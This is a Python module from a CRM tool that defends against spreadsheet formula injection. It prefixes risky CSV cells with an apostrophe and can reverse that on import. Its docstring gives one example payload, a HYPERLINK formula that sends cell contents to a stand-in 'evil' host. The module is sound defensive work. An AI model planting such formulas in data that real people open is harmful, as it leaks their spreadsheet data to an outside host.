"""Spreadsheet formula injection (CSV injection, OWASP): text cells that a spreadsheet would run.

A CSV file opened in Excel, LibreOffice or Google Sheets treats a cell that starts with
``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage return) as a formula, so a
lead named ``=HYPERLINK("http://evil/?"&A1, "click")`` would become code on the desk of
whoever opens the export.  Data is never code: CSV that crm writes for people (``export``,
``--format csv``, the rejects file) prefixes such a cell with an apostrophe, which every
spreadsheet shows as text.  What is *not* escaped:

* numbers — cells of numeric values, and text that is a plain number (``-5``, ``+8613800138000``,
  ``1.5e3``): a spreadsheet reads them as numbers, and they cannot hold a formula; nor a lone
  ``-`` or ``+`` (a placeholder, not a formula);
* TSV, JSON and JSONL, which are for scripts (``--format tsv`` is the piped default).

The escape is reversible: a cell that already starts with apostrophes before such a
character gets one more, and :func:`unescape` (applied to CSV input by import) takes exactly
one off, so ``export`` → ``import`` gives every value back as it was.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEEDS = re.compile(r"'*[=+\-@\t\r]")
_NUMBER = re.compile(r"'*(?:[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|[+-])")  # or a lone sign


def needs_escape(text: str) -> bool:
    """True for text a spreadsheet would read as a formula (apostrophes before it included, see above)."""
    return _NEEDS.match(text) is not None and _NUMBER.fullmatch(text) is None


def escape(text: str) -> str:
    """``text`` as a safe spreadsheet cell: an apostrophe in front when it would be a formula."""
    return "'" + text if text and needs_escape(text) else text


def unescape(text: str) -> str:
    """The value :func:`escape` was given (the apostrophe it added taken off; any other text as it is)."""
    return text[1:] if text[:1] == "'" and needs_escape(text[1:]) else text
